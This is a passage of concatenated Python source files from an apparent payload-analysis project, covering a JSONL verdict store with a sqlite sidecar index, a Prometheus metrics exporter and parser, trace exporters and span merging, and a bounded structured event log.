        cut = chunk.rfind(b"\n")
        if cut < 0:
            return  # only a torn tail so far; wait for the writer to finish
        complete, self._offset = chunk[: cut + 1], self._offset + cut + 1
        for raw in complete.splitlines():
            try:
                entry = json.loads(raw)
            except json.JSONDecodeError:
                self.corrupt_lines += 1
                continue
            if not isinstance(entry, dict):
                self.corrupt_lines += 1
                continue
            kind = entry.get("kind")
            if kind == "header":
                self._check_header(entry)
            elif kind == "detection" and "digest" in entry:
                self._detections[entry["digest"]] = entry.get("verdict")
            elif kind == "privacy" and "digest" in entry:
                self._privacy[entry["digest"]] = entry.get("leaks") or []
            else:
                self.corrupt_lines += 1

    def _check_header(self, entry: Dict[str, object]) -> None:
        if entry.get("version") != STORE_VERSION:
            raise StoreError(
                "{}: unsupported store version {}".format(self.path, entry.get("version"))
            )
        if entry.get("fingerprint") != self.fingerprint:
            raise StoreError(
                "verdict store {} was written under a different analyzer "
                "configuration; refusing to serve its verdicts".format(self.path)
            )
        self._header_checked = True

    # -- appends -----------------------------------------------------------------

    def _write_line(self, entry: Dict[str, object]) -> None:
        self._handle.write(json.dumps(entry, sort_keys=True).encode("utf-8") + b"\n")
        self._handle.flush()

    def _publish(self, entry: Dict[str, object]) -> None:
        with _file_lock(self._handle, exclusive=True):
            self._write_line(entry)

    # -- detection tier ----------------------------------------------------------

    def get_detection(self, digest: str) -> Tuple[bool, Optional[Detection]]:
        """``(found, verdict)``; ``(True, None)`` means computed-benign."""
        with self._mutex:
            if digest not in self._detections:
                self._refresh()
            if digest in self._detections:
                return True, _detection_from_plain(self._detections[digest])
            return False, None

    def put_detection(self, digest: str, detection: Optional[Detection]) -> None:
        payload = _detection_to_plain(detection)
        with self._mutex:
            if digest in self._detections:
                return  # a sibling already published this digest
            self._publish({"kind": "detection", "digest": digest, "verdict": payload})
            self._detections[digest] = payload

    # -- privacy tier ------------------------------------------------------------

    def get_privacy(self, digest: str) -> Tuple[bool, Tuple[PrivacyLeak, ...]]:
        with self._mutex:
            if digest not in self._privacy:
                self._refresh()
            if digest in self._privacy:
                return True, _leaks_from_plain(self._privacy[digest])
            return False, ()

    def put_privacy(self, digest: str, leaks: Tuple[PrivacyLeak, ...]) -> None:
        payload = _leaks_to_plain(leaks)
        with self._mutex:
            if digest in self._privacy:
                return
            self._publish({"kind": "privacy", "digest": digest, "leaks": payload})
            self._privacy[digest] = payload

    # -- introspection / lifecycle -----------------------------------------------

    def counts(self) -> Dict[str, int]:
        with self._mutex:
            self._refresh()
            return {"detection": len(self._detections), "privacy": len(self._privacy)}

    def close(self) -> None:
        with self._mutex:
            if not self._handle.closed:
                self._handle.close()

    def __enter__(self) -> "VerdictStore":
        return self

    def __exit__(self, *exc_info) -> None:
        self.close()
