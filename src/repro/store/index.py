"""Sqlite sidecar index for the JSONL verdict store.

The JSONL file stays the single source of truth and the portable
interchange format; this module adds a derived ``<store>.idx`` sqlite
database next to it so warm opens and point lookups stop paying a linear
re-scan.  Design constraints, in order:

1. **The index is a cache, never an authority.**  Every row is derived
   from the JSONL by a scan that already folded the same bytes, and any
   validation failure (schema drift, fingerprint mismatch, watermark past
   EOF after an external truncate) resets the index rather than erroring.
   Losing the sidecar costs one full re-scan, nothing else.
2. **Crash consistency by ordering.**  The ``watermark`` (byte offset the
   index covers) only advances inside the same transaction that upserts
   every entry parsed from ``[old_watermark, new_watermark)``.  A crash
   between a JSONL append and the next index update merely leaves an
   unindexed tail, which the next reader's incremental scan heals.
3. **The flock contract is unchanged.**  Appends still serialize on the
   JSONL's advisory lock; sqlite provides its own cross-process locking
   for the sidecar (``INSERT OR IGNORE`` + monotonic watermark updates
   make concurrent healers idempotent).

Schema (version 1)::

    meta(key TEXT PRIMARY KEY, value TEXT)
        -- schema_version, fingerprint, watermark
    entries(kind TEXT, digest TEXT, offset INTEGER,
            PRIMARY KEY (kind, digest)) WITHOUT ROWID

``offset`` is the byte position of the first JSONL line publishing that
``(kind, digest)``; first write wins, matching the store's fold rule.
"""

from __future__ import annotations

from pathlib import Path
from typing import Iterable, Optional, Tuple, Union

try:  # stdlib, but allow degraded operation if the build lacks it.
    import sqlite3
except ImportError:  # pragma: no cover - sqlite3 ships with CPython
    sqlite3 = None

__all__ = [
    "INDEX_SCHEMA_VERSION",
    "SQLITE_ERRORS",
    "StoreIndex",
    "index_path",
    "sqlite_available",
]

INDEX_SCHEMA_VERSION = 1

#: exception types meaning "the sidecar is unavailable, fall back to scans".
SQLITE_ERRORS = (sqlite3.Error,) if sqlite3 is not None else ()

#: rows are (kind, digest, byte offset of the line in the JSONL).
IndexRow = Tuple[str, str, int]


def sqlite_available() -> bool:
    return sqlite3 is not None


def index_path(store_path: Union[str, Path]) -> Path:
    """Sidecar path for a store file: ``verdicts.jsonl`` -> ``verdicts.jsonl.idx``."""
    store_path = Path(store_path)
    return store_path.with_name(store_path.name + ".idx")


class StoreIndex:
    """Offset index over one append-only JSONL file.

    ``fingerprint`` is the owning store's header fingerprint; a sidecar
    written for a different fingerprint (the JSONL was replaced) is reset
    on open.  ``store_size`` is the JSONL's current byte size, used to
    detect a stale watermark after an external truncate or swap.

    All methods may raise :class:`sqlite3.Error` under disk pressure or
    pathological lock contention; callers treat that as "index
    unavailable" and fall back to scanning.
    """

    def __init__(
        self, path: Union[str, Path], fingerprint: str, store_size: int
    ) -> None:
        if sqlite3 is None:  # pragma: no cover - sqlite3 ships with CPython
            raise RuntimeError("sqlite3 is unavailable")
        self.path = Path(path)
        self.fingerprint = fingerprint
        self._conn = sqlite3.connect(
            str(self.path), timeout=5.0, check_same_thread=False
        )
        self._conn.isolation_level = None  # explicit transactions only
        self._ensure_schema(store_size)

    # -- lifecycle ---------------------------------------------------------------

    def _ensure_schema(self, store_size: int) -> None:
        cur = self._conn
        cur.execute("BEGIN IMMEDIATE")
        try:
            cur.execute(
                "CREATE TABLE IF NOT EXISTS meta (key TEXT PRIMARY KEY, value TEXT)"
            )
            cur.execute(
                "CREATE TABLE IF NOT EXISTS entries ("
                " kind TEXT NOT NULL, digest TEXT NOT NULL, offset INTEGER NOT NULL,"
                " PRIMARY KEY (kind, digest)) WITHOUT ROWID"
            )
            version = self._meta(cur, "schema_version")
            fingerprint = self._meta(cur, "fingerprint")
            watermark = self._meta(cur, "watermark")
            stale = (
                version != str(INDEX_SCHEMA_VERSION)
                or fingerprint != self.fingerprint
                or watermark is None
                or not watermark.isdigit()
                or int(watermark) > store_size
            )
            if stale:
                cur.execute("DELETE FROM entries")
                cur.execute("DELETE FROM meta")
                rows = [
                    ("schema_version", str(INDEX_SCHEMA_VERSION)),
                    ("fingerprint", self.fingerprint),
                    ("watermark", "0"),
                ]
                cur.executemany("INSERT INTO meta (key, value) VALUES (?, ?)", rows)
            cur.execute("COMMIT")
        except BaseException:
            cur.execute("ROLLBACK")
            raise

    @staticmethod
    def _meta(conn, key: str) -> Optional[str]:
        row = conn.execute("SELECT value FROM meta WHERE key = ?", (key,)).fetchone()
        return None if row is None else str(row[0])

    def close(self) -> None:
        self._conn.close()

    # -- reads -------------------------------------------------------------------

    def watermark(self) -> int:
        value = self._meta(self._conn, "watermark")
        return int(value) if value is not None and value.isdigit() else 0

    def lookup(self, kind: str, digest: str) -> Optional[int]:
        row = self._conn.execute(
            "SELECT offset FROM entries WHERE kind = ? AND digest = ?",
            (kind, digest),
        ).fetchone()
        return None if row is None else int(row[0])

    def count(self, kind: str) -> int:
        row = self._conn.execute(
            "SELECT COUNT(*) FROM entries WHERE kind = ?", (kind,)
        ).fetchone()
        return int(row[0])

    def entries(self, kind: str) -> Iterable[Tuple[str, int]]:
        """All ``(digest, offset)`` pairs of one kind, for bulk map loads.

        The warehouse uses this to rebuild its in-memory key->offset map
        without touching the JSONL; the verdict store never needs it (it
        probes per digest instead of materializing).
        """
        return [
            (str(digest), int(offset))
            for digest, offset in self._conn.execute(
                "SELECT digest, offset FROM entries WHERE kind = ?", (kind,)
            )
        ]

    # -- writes ------------------------------------------------------------------

    def advance(self, rows: Iterable[IndexRow], new_watermark: int) -> None:
        """Fold one scanned range: upsert ``rows`` and raise the watermark.

        First write wins (``INSERT OR IGNORE``) and the watermark only
        moves forward, so concurrent healers scanning overlapping ranges
        commute.  Entries and watermark move in one transaction: the
        watermark never claims coverage the entries table lacks.
        """
        cur = self._conn
        cur.execute("BEGIN IMMEDIATE")
        try:
            cur.executemany(
                "INSERT OR IGNORE INTO entries (kind, digest, offset)"
                " VALUES (?, ?, ?)",
                list(rows),
            )
            cur.execute(
                "UPDATE meta SET value = ? WHERE key = 'watermark'"
                " AND CAST(value AS INTEGER) < ?",
                (str(int(new_watermark)), int(new_watermark)),
            )
            cur.execute("COMMIT")
        except BaseException:
            cur.execute("ROLLBACK")
            raise

    def rebuild(self, rows: Iterable[IndexRow], watermark: int) -> None:
        """Replace the whole index (compaction rewrote the JSONL)."""
        cur = self._conn
        cur.execute("BEGIN IMMEDIATE")
        try:
            cur.execute("DELETE FROM entries")
            cur.executemany(
                "INSERT OR IGNORE INTO entries (kind, digest, offset)"
                " VALUES (?, ?, ?)",
                list(rows),
            )
            cur.execute(
                "INSERT OR REPLACE INTO meta (key, value) VALUES ('watermark', ?)",
                (str(int(watermark)),),
            )
            cur.execute("COMMIT")
        except BaseException:
            cur.execute("ROLLBACK")
            raise

    def reset(self) -> None:
        self.rebuild([], 0)
