"""Process-safe, content-addressed verdict store (tier 2 behind the LRU)."""

from repro.store.index import (
    INDEX_SCHEMA_VERSION,
    StoreIndex,
    index_path,
    sqlite_available,
)
from repro.store.verdicts import (
    STORE_VERSION,
    StoreError,
    VerdictStore,
    compact_store,
    verdict_fingerprint,
)

__all__ = [
    "INDEX_SCHEMA_VERSION",
    "STORE_VERSION",
    "StoreError",
    "StoreIndex",
    "VerdictStore",
    "compact_store",
    "index_path",
    "sqlite_available",
    "verdict_fingerprint",
]
