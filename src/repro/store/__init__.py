"""Process-safe, content-addressed verdict store (tier 2 behind the LRU)."""

from repro.store.verdicts import (
    STORE_VERSION,
    StoreError,
    VerdictStore,
    verdict_fingerprint,
)

__all__ = ["STORE_VERSION", "StoreError", "VerdictStore", "verdict_fingerprint"]
