"""Prometheus text-format exposition of the metrics registry.

``to_prometheus`` renders a :class:`~repro.observe.metrics.MetricsRegistry`
(or its ``to_dict()`` form, so ``--metrics-out`` files export offline) in
the Prometheus exposition format, version 0.0.4:

- counters  -> ``<name>_total`` samples of type ``counter``;
- gauges    -> plain samples of type ``gauge``;
- histograms -> cumulative ``<name>_seconds_bucket{le="..."}`` samples
  plus ``_sum``/``_count``, type ``histogram`` (the registry stores
  per-bucket counts; exposition is where they become cumulative);
- distinct sets -> ``<name>_distinct`` gauges carrying the cardinality.

Dotted registry names are sanitized (``stage.analyze`` ->
``repro_stage_analyze_seconds``); every family gets a ``# HELP`` line
naming the original registry metric so the mapping stays greppable.

``parse_prometheus`` is the tiny in-repo parser the CI smoke job and
``repro top`` use to validate and consume ``/metrics?format=prom``
without external dependencies, and ``merge_expositions`` mirrors
:meth:`MetricsRegistry.merge_dict` at the text level: counters and
histogram components sum, gauges take the max.  Distinct-set
cardinalities are **not** mergeable from expositions alone (a union
needs the member values, which only ``merge_dict`` sees), so
``merge_expositions`` drops ``_distinct`` families and callers comparing
against a merged registry must do the same.
"""

from __future__ import annotations

import math
import re
from typing import Dict, Iterable, List, Sequence, Tuple, Union

from repro.observe.metrics import MetricsRegistry, iter_bucket_bounds

__all__ = [
    "PROM_CONTENT_TYPE",
    "PromParseError",
    "default_bucket_bounds",
    "histogram_quantiles",
    "merge_expositions",
    "parse_prometheus",
    "quantile_from_buckets",
    "to_prometheus",
]

#: the content type a conforming scrape endpoint must serve.
PROM_CONTENT_TYPE = "text/plain; version=0.0.4; charset=utf-8"

_NAME_OK = re.compile(r"^[a-zA-Z_:][a-zA-Z0-9_:]*$")
_SANITIZE = re.compile(r"[^a-zA-Z0-9_]")
_SAMPLE = re.compile(
    r"^(?P<name>[a-zA-Z_:][a-zA-Z0-9_:]*)"
    r"(?:\{(?P<labels>[^}]*)\})?"
    r"\s+(?P<value>\S+)$"
)
_LABEL = re.compile(r'^(?P<key>[a-zA-Z_][a-zA-Z0-9_]*)="(?P<value>[^"]*)"$')


def _sanitize(name: str, prefix: str) -> str:
    return prefix + _SANITIZE.sub("_", name)


def _format_value(value: float) -> str:
    if value == math.inf:
        return "+Inf"
    if isinstance(value, float) and value.is_integer():
        return str(int(value))
    return repr(value)


def _bucket_bound_from_key(key: str) -> float:
    """``le_0.05s``/``le_inf`` (the registry's JSON keys) -> upper bound."""
    if key == "le_inf":
        return math.inf
    return float(key[len("le_"):-1])


def to_prometheus(
    registry: Union[MetricsRegistry, Dict[str, object]], prefix: str = "repro_"
) -> str:
    """Render a registry (live or serialized) as Prometheus text format."""
    payload = registry.to_dict() if isinstance(registry, MetricsRegistry) else registry
    lines: List[str] = []

    for name, value in sorted(payload.get("counters", {}).items()):
        family = _sanitize(name, prefix) + "_total"
        lines.append("# HELP {} counter {}".format(family, name))
        lines.append("# TYPE {} counter".format(family))
        lines.append("{} {}".format(family, _format_value(float(value))))

    for name, value in sorted(payload.get("gauges", {}).items()):
        family = _sanitize(name, prefix)
        lines.append("# HELP {} gauge {}".format(family, name))
        lines.append("# TYPE {} gauge".format(family))
        lines.append("{} {}".format(family, _format_value(float(value))))

    for name, count in sorted(payload.get("distinct", {}).items()):
        if not isinstance(count, int):  # serialized registries carry the values
            count = len(count)
        family = _sanitize(name, prefix) + "_distinct"
        lines.append("# HELP {} gauge distinct {}".format(family, name))
        lines.append("# TYPE {} gauge".format(family))
        lines.append("{} {}".format(family, _format_value(float(count))))

    for name, histogram in sorted(payload.get("histograms", {}).items()):
        family = _sanitize(name, prefix) + "_seconds"
        lines.append("# HELP {} histogram {}".format(family, name))
        lines.append("# TYPE {} histogram".format(family))
        buckets = histogram["buckets"]
        cumulative = 0
        for key in sorted(buckets, key=_bucket_bound_from_key):
            cumulative += buckets[key]
            lines.append(
                '{}_bucket{{le="{}"}} {}'.format(
                    family,
                    _format_value(_bucket_bound_from_key(key)),
                    cumulative,
                )
            )
        lines.append("{}_sum {}".format(family, _format_value(float(histogram["total_s"]))))
        lines.append("{}_count {}".format(family, _format_value(float(histogram["count"]))))

    return "\n".join(lines) + "\n" if lines else ""


# -- parsing / validation ------------------------------------------------------


class PromParseError(ValueError):
    """The text is not valid Prometheus exposition format."""


#: one parsed family: declared type plus ``(sample_name, labels, value)``.
Family = Dict[str, object]


def _parse_labels(raw: str) -> Dict[str, str]:
    labels: Dict[str, str] = {}
    for part in filter(None, (p.strip() for p in raw.split(","))):
        match = _LABEL.match(part)
        if match is None:
            raise PromParseError("bad label pair {!r}".format(part))
        labels[match.group("key")] = match.group("value")
    return labels


def _family_for(sample_name: str, families: Dict[str, Family]) -> str:
    """Resolve a sample line to its declared family (histogram suffixes)."""
    if sample_name in families:
        return sample_name
    for suffix in ("_bucket", "_sum", "_count"):
        if sample_name.endswith(suffix):
            base = sample_name[: -len(suffix)]
            if base in families and families[base]["type"] == "histogram":
                return base
    raise PromParseError("sample {!r} has no preceding # TYPE line".format(sample_name))


def parse_prometheus(text: str) -> Dict[str, Family]:
    """Parse (and thereby validate) Prometheus text exposition.

    Returns ``{family: {"type": ..., "samples": [(name, labels, value)]}}``.
    Raises :class:`PromParseError` on malformed names, labels, values,
    undeclared samples, or histograms missing their ``+Inf`` bucket --
    strict enough to serve as the CI format validator.
    """
    families: Dict[str, Family] = {}
    for lineno, line in enumerate(text.splitlines(), start=1):
        line = line.strip()
        if not line:
            continue
        if line.startswith("# TYPE "):
            parts = line.split()
            if len(parts) != 4:
                raise PromParseError("line {}: malformed TYPE line".format(lineno))
            _, _, name, kind = parts
            if not _NAME_OK.match(name):
                raise PromParseError("line {}: bad metric name {!r}".format(lineno, name))
            if kind not in ("counter", "gauge", "histogram", "summary", "untyped"):
                raise PromParseError("line {}: unknown type {!r}".format(lineno, kind))
            if name in families:
                raise PromParseError("line {}: duplicate TYPE for {!r}".format(lineno, name))
            families[name] = {"type": kind, "samples": []}
            continue
        if line.startswith("#"):
            continue  # HELP and comments
        match = _SAMPLE.match(line)
        if match is None:
            raise PromParseError("line {}: unparseable sample {!r}".format(lineno, line))
        name = match.group("name")
        labels = _parse_labels(match.group("labels") or "")
        raw_value = match.group("value")
        try:
            value = math.inf if raw_value == "+Inf" else float(raw_value)
        except ValueError:
            raise PromParseError("line {}: bad value {!r}".format(lineno, raw_value))
        try:
            family = _family_for(name, families)
        except PromParseError as exc:
            raise PromParseError("line {}: {}".format(lineno, exc))
        families[family]["samples"].append((name, labels, value))

    for name, family in families.items():
        if family["type"] != "histogram":
            continue
        buckets = {
            labels.get("le"): value
            for sample, labels, value in family["samples"]
            if sample == name + "_bucket"
        }
        if "+Inf" not in buckets:
            raise PromParseError("histogram {!r} is missing its +Inf bucket".format(name))
        counts = [
            value for sample, _, value in family["samples"] if sample == name + "_count"
        ]
        if counts and counts[0] != buckets["+Inf"]:
            raise PromParseError(
                "histogram {!r}: _count {} != +Inf bucket {}".format(
                    name, counts[0], buckets["+Inf"]
                )
            )
    return families


def merge_expositions(texts: Sequence[str]) -> Dict[str, Family]:
    """Fold several expositions into one parsed family dict.

    Mirrors :meth:`MetricsRegistry.merge_dict` sample-wise: counters,
    histogram buckets, ``_sum`` and ``_count`` add; gauges take the max.
    ``_distinct`` families are dropped (cardinalities do not merge; see
    the module docstring).  The result is keyed and ordered like
    ``parse_prometheus`` output on the merged registry, so the two are
    directly comparable.
    """
    merged: Dict[str, Family] = {}
    for text in texts:
        for name, family in parse_prometheus(text).items():
            if name.endswith("_distinct"):
                continue
            if name not in merged:
                merged[name] = {"type": family["type"], "samples": []}
            elif merged[name]["type"] != family["type"]:
                raise PromParseError(
                    "family {!r} declared as both {} and {}".format(
                        name, merged[name]["type"], family["type"]
                    )
                )
            target = merged[name]
            index = {
                (sample, tuple(sorted(labels.items()))): position
                for position, (sample, labels, _) in enumerate(target["samples"])
            }
            take_max = family["type"] == "gauge"
            for sample, labels, value in family["samples"]:
                key = (sample, tuple(sorted(labels.items())))
                if key not in index:
                    index[key] = len(target["samples"])
                    target["samples"].append((sample, dict(labels), value))
                else:
                    position = index[key]
                    existing_name, existing_labels, existing = target["samples"][position]
                    folded = max(existing, value) if take_max else existing + value
                    target["samples"][position] = (existing_name, existing_labels, folded)
    return merged


# -- histogram quantiles -------------------------------------------------------


def quantile_from_buckets(
    buckets: Iterable[Tuple[float, float]], q: float
) -> float:
    """Prometheus-style quantile estimate from cumulative ``(le, count)`` pairs.

    Linear interpolation inside the bucket containing the target rank
    (``histogram_quantile`` semantics); a rank landing in the ``+Inf``
    bucket returns the highest finite bound -- the histogram cannot say
    more.  Returns 0.0 for an empty histogram.
    """
    ordered = sorted(buckets, key=lambda pair: pair[0])
    if not ordered or ordered[-1][1] <= 0:
        return 0.0
    total = ordered[-1][1]
    rank = q * total
    previous_bound, previous_count = 0.0, 0.0
    for bound, count in ordered:
        if count >= rank:
            if bound == math.inf:
                finite = [b for b, _ in ordered if b != math.inf]
                return finite[-1] if finite else 0.0
            span = count - previous_count
            if span <= 0:
                return bound
            fraction = (rank - previous_count) / span
            return previous_bound + (bound - previous_bound) * fraction
        previous_bound, previous_count = bound, count
    return previous_bound


def histogram_quantiles(
    family: Family, quantiles: Sequence[float] = (0.5, 0.95)
) -> Dict[float, float]:
    """Quantile estimates for one parsed histogram family."""
    buckets = [
        (math.inf if labels["le"] == "+Inf" else float(labels["le"]), value)
        for sample, labels, value in family["samples"]
        if sample.endswith("_bucket")
    ]
    return {q: quantile_from_buckets(buckets, q) for q in quantiles}


def default_bucket_bounds() -> Tuple[float, ...]:
    """The registry's 1-2-5 ladder (exported for tests and tooling)."""
    return tuple(iter_bucket_bounds())
