"""Trace exporters and loaders.

Two on-disk formats, both plain JSON:

- **jsonl** -- one span dict per line, exactly ``Span.to_dict``; easy to
  grep and to stream-merge;
- **chrome** -- the Chrome ``trace_event`` format (a ``traceEvents``
  array of complete ``"ph": "X"`` events with microsecond ``ts``/``dur``),
  loadable in ``chrome://tracing`` and https://ui.perfetto.dev.

``load_spans`` reads either format back into span dicts so ``repro trace
summary`` works on whatever the run wrote.
"""

from __future__ import annotations

import json
from typing import Any, Dict, List, Sequence

__all__ = ["TRACE_FORMATS", "load_spans", "to_chrome_events", "write_trace"]

TRACE_FORMATS = ("jsonl", "chrome")


def to_chrome_events(spans: Sequence[Dict[str, Any]]) -> List[Dict[str, Any]]:
    """Span dicts -> Chrome ``trace_event`` complete events.

    ``tid`` carries the farm shard id (0 for serial runs) so each shard
    renders as its own track; span/parent ids ride along in ``args`` to
    keep the nesting recoverable from the exported file alone.
    """
    events = []
    for span in spans:
        args = dict(span.get("attrs", {}))
        args["span_id"] = span["span_id"]
        args["parent_id"] = span["parent_id"]
        events.append(
            {
                "name": span["name"],
                "ph": "X",
                "ts": round(span["ts"] * 1e6, 3),
                "dur": round(span["dur"] * 1e6, 3),
                "pid": 1,
                "tid": span.get("tid", 0),
                "cat": "repro",
                "args": args,
            }
        )
    return events


def write_trace(spans: Sequence[Dict[str, Any]], path: str, fmt: str = "jsonl") -> None:
    """Write spans to ``path`` in the requested format."""
    if fmt not in TRACE_FORMATS:
        raise ValueError("unknown trace format {!r} (want one of {})".format(
            fmt, "/".join(TRACE_FORMATS)))
    with open(path, "w", encoding="utf-8") as handle:
        if fmt == "jsonl":
            for span in spans:
                handle.write(json.dumps(span, sort_keys=True))
                handle.write("\n")
        else:
            json.dump(
                {"traceEvents": to_chrome_events(spans), "displayTimeUnit": "ms"},
                handle,
            )
            handle.write("\n")


def _from_chrome_event(event: Dict[str, Any]) -> Dict[str, Any]:
    args = dict(event.get("args", {}))
    span_id = args.pop("span_id", 0)
    parent_id = args.pop("parent_id", 0)
    return {
        "span_id": span_id,
        "parent_id": parent_id,
        "name": event["name"],
        "ts": event.get("ts", 0.0) / 1e6,
        "dur": event.get("dur", 0.0) / 1e6,
        "tid": event.get("tid", 0),
        "attrs": args,
    }


def load_spans(path: str) -> List[Dict[str, Any]]:
    """Read a trace written by :func:`write_trace`, either format."""
    with open(path, "r", encoding="utf-8") as handle:
        text = handle.read()
    try:
        payload = json.loads(text)
    except json.JSONDecodeError:
        payload = None
    if isinstance(payload, dict) and "traceEvents" in payload:
        events = payload["traceEvents"]
        return [_from_chrome_event(event) for event in events if event.get("ph") == "X"]
    if isinstance(payload, dict):
        return [payload]  # a one-span jsonl file parses as a single object
    return [json.loads(line) for line in text.splitlines() if line.strip()]
