"""Deterministic merging of span lists from many tracers.

Each farm worker runs its own :class:`~repro.observe.tracer.Tracer` with
ids starting at 1, so the coordinator must re-id spans when stitching the
per-shard lists into one trace.  Merging sorts by shard id (never by
completion order) and renumbers spans in (shard, original-id) order, so
the merged trace *structure* is identical for every worker count and
scheduling interleave of the same run.
"""

from __future__ import annotations

from typing import Any, Dict, Iterable, List, Tuple

__all__ = ["merge_span_lists"]


def merge_span_lists(
    shard_spans: Iterable[Tuple[int, List[Dict[str, Any]]]],
) -> List[Dict[str, Any]]:
    """``(shard_id, spans)`` pairs -> one re-identified span list.

    Parent links are remapped with the ids; each span is stamped with
    ``tid = shard_id`` so exporters can keep shards on separate tracks.
    """
    merged: List[Dict[str, Any]] = []
    next_id = 1
    for shard_id, spans in sorted(shard_spans, key=lambda pair: pair[0]):
        id_map: Dict[int, int] = {}
        for span in sorted(spans, key=lambda s: s["span_id"]):
            renumbered = dict(span)
            id_map[span["span_id"]] = next_id
            renumbered["span_id"] = next_id
            renumbered["parent_id"] = id_map.get(span["parent_id"], 0)
            renumbered["tid"] = shard_id
            merged.append(renumbered)
            next_id += 1
    return merged
