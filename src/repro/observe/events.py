"""The structured event log: leveled, bounded, greppable operational events.

Spans answer "where did the time go"; events answer "what happened".  An
:class:`EventLog` is a thread-safe bounded ring of :class:`Event` records
-- one per operationally interesting transition (job admitted, shard
quarantined, firewall deny, store publish) -- with an optional JSONL sink
so a long-lived daemon leaves a greppable trail on disk::

    events = EventLog(capacity=1024, sink="events.jsonl")
    events.emit("job.admitted", job_id="job-000001", client="tenant-a")
    events.emit("firewall.deny", level="warn", path="/sdcard/evil.dex")

Records are plain dicts (``{"seq", "ts", "level", "name", "fields"}``);
``seq`` is a monotonic per-log counter, so consumers can detect ring
eviction (``dropped``) and concurrent writers can prove no record was
lost or torn.  Two sink modes exist because two consumers need them:

- ``append`` -- write-through, one flushed line per emit (the daemon's
  audit trail; survives crashes up to the last flush);
- ``rewrite`` -- atomically rewrite the whole ring on every emit (the
  farm flight recorder: the on-disk file always parses, always holds the
  last N records, and a SIGKILL can never tear a line).

:data:`NULL_EVENT_LOG` is the zero-cost disabled path, mirroring
:data:`~repro.observe.tracer.NULL_TRACER`.
"""

from __future__ import annotations

import json
import os
import threading
import time
from collections import deque
from typing import Any, Deque, Dict, List, Optional

__all__ = [
    "EVENT_LEVELS",
    "Event",
    "EventLog",
    "NULL_EVENT_LOG",
    "NullEventLog",
    "load_events",
]

#: level name -> rank; emits below the log's minimum level are dropped.
EVENT_LEVELS: Dict[str, int] = {"debug": 10, "info": 20, "warn": 30, "error": 40}

_SINK_MODES = ("append", "rewrite")


def _level_rank(level: str) -> int:
    try:
        return EVENT_LEVELS[level]
    except KeyError:
        raise ValueError(
            "unknown event level {!r} (want one of {})".format(
                level, "/".join(sorted(EVENT_LEVELS, key=EVENT_LEVELS.get))
            )
        )


class Event:
    """One structured record: name, level, wall-clock ts, free-form fields."""

    __slots__ = ("seq", "ts", "level", "name", "fields")

    def __init__(
        self, seq: int, ts: float, level: str, name: str, fields: Dict[str, Any]
    ) -> None:
        self.seq = seq
        self.ts = ts
        self.level = level
        self.name = name
        self.fields = fields

    def to_dict(self) -> Dict[str, Any]:
        return {
            "seq": self.seq,
            "ts": round(self.ts, 6),
            "level": self.level,
            "name": self.name,
            "fields": dict(self.fields),
        }

    def __repr__(self) -> str:  # pragma: no cover - debugging aid
        return "Event(#{} [{}] {} {})".format(self.seq, self.level, self.name, self.fields)


class EventLog:
    """Thread-safe bounded ring of events with an optional JSONL sink."""

    def __init__(
        self,
        capacity: int = 1024,
        sink: Optional[str] = None,
        level: str = "debug",
        sink_mode: str = "append",
    ) -> None:
        if capacity < 1:
            raise ValueError("capacity must be >= 1")
        if sink_mode not in _SINK_MODES:
            raise ValueError(
                "unknown sink_mode {!r} (want one of {})".format(
                    sink_mode, "/".join(_SINK_MODES)
                )
            )
        self.capacity = capacity
        self.sink = sink
        self.sink_mode = sink_mode
        self._min_rank = _level_rank(level)
        self._ring: Deque[Event] = deque(maxlen=capacity)
        self._seq = 0
        self._lock = threading.Lock()
        self._handle = None
        if sink and sink_mode == "append":
            self._handle = open(sink, "a", encoding="utf-8")

    # -- write -----------------------------------------------------------------

    def emit(self, name: str, level: str = "info", **fields: Any) -> Optional[Event]:
        """Record one event; returns it, or None when filtered by level."""
        rank = _level_rank(level)
        if rank < self._min_rank:
            return None
        with self._lock:
            event = Event(
                seq=self._seq, ts=time.time(), level=level, name=name, fields=fields
            )
            self._seq += 1
            self._ring.append(event)
            if self._handle is not None:
                self._handle.write(json.dumps(event.to_dict(), sort_keys=True))
                self._handle.write("\n")
                self._handle.flush()
            elif self.sink is not None:
                self._rewrite_locked()
        return event

    def _rewrite_locked(self) -> None:
        """Atomically replace the sink with the current ring contents."""
        tmp = "{}.tmp{}".format(self.sink, os.getpid())
        with open(tmp, "w", encoding="utf-8") as handle:
            for event in self._ring:
                handle.write(json.dumps(event.to_dict(), sort_keys=True))
                handle.write("\n")
        os.replace(tmp, self.sink)

    # -- read ------------------------------------------------------------------

    def to_dicts(self) -> List[Dict[str, Any]]:
        """Snapshot of the retained ring, oldest first."""
        with self._lock:
            return [event.to_dict() for event in self._ring]

    @property
    def emitted(self) -> int:
        """Events accepted (post level filter) over the log's lifetime."""
        with self._lock:
            return self._seq

    @property
    def dropped(self) -> int:
        """Events evicted from the ring by the capacity bound."""
        with self._lock:
            return self._seq - len(self._ring)

    def __len__(self) -> int:
        with self._lock:
            return len(self._ring)

    def close(self) -> None:
        with self._lock:
            if self._handle is not None:
                self._handle.close()
                self._handle = None


class NullEventLog:
    """Disabled log: ``emit`` does nothing, reads are empty."""

    capacity = 0
    sink = None
    emitted = 0
    dropped = 0

    def emit(self, name: str, level: str = "info", **fields: Any) -> None:
        return None

    def to_dicts(self) -> List[Dict[str, Any]]:
        return []

    def __len__(self) -> int:
        return 0

    def close(self) -> None:
        return None


NULL_EVENT_LOG = NullEventLog()


def load_events(path: str) -> List[Dict[str, Any]]:
    """Read a JSONL event file, tolerating a torn final line.

    An ``append``-mode sink killed mid-write can leave a partial last
    record; post-mortem tooling must still read everything before it.
    A torn line anywhere *else* is real corruption and raises.
    """
    with open(path, "r", encoding="utf-8") as handle:
        lines = handle.read().splitlines()
    events: List[Dict[str, Any]] = []
    for position, line in enumerate(lines):
        if not line.strip():
            continue
        try:
            events.append(json.loads(line))
        except json.JSONDecodeError:
            if position == len(lines) - 1:
                break  # torn tail: the crash the recorder exists to survive
            raise ValueError(
                "{}:{}: unparseable event record".format(path, position + 1)
            )
    return events
