"""Deterministic, dependency-free span tracing for the pipeline.

A :class:`Tracer` produces nested :class:`Span` records: one per pipeline
stage, engine phase, or analyzed payload.  Two properties matter more than
feature count:

- **determinism** -- span ids come from a monotonic per-tracer counter
  (no randomness, no wall-clock identity), and spans are stored in start
  order.  The farm merges span lists from many workers into one trace
  with stable ids (:func:`repro.observe.merge.merge_span_lists`), so the
  same seeded run always produces the same trace *structure*; only the
  ``ts``/``dur`` timing fields vary.
- **zero cost when off** -- :data:`NULL_TRACER` hands out one shared
